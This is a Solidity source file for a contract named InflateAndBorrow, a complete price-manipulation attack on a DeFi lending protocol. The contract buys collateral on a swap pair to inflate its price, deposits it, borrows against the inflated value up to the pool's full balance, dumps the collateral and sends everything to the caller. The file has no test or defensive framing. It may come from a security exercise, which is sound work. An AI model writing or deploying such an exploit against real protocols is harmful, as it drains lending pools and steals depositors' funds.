pragma solidity 0.5.17;

interface IToken {
    function transfer(address to, uint256 value) external returns (bool);
    function approve(address spender, uint256 value) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
}

interface IPair {
    function swap(address tokenIn, uint256 amountIn, address to) external returns (uint256);
}

interface ILending {
    function deposit(uint256 amount) external;
    function borrow(uint256 amount) external;
    function collateralValue(address who) external view returns (uint256);
}

contract InflateAndBorrow {
    function run(IToken usd, IToken col, IPair pair, ILending lending, uint256 pump, uint256 pledged) external {
        usd.approve(address(pair), uint256(-1));
        col.approve(address(pair), uint256(-1));
        col.approve(address(lending), uint256(-1));
        uint256 bought = pair.swap(address(usd), pump, address(this));
        lending.deposit(pledged);
        uint256 limit = (lending.collateralValue(address(this)) * 60) / 100;
        uint256 available = usd.balanceOf(address(lending));
        lending.borrow(limit < available ? limit : available);
        pair.swap(address(col), bought, address(this));
        usd.transfer(msg.sender, usd.balanceOf(address(this)));
        col.transfer(msg.sender, col.balanceOf(address(this)));
    }
}
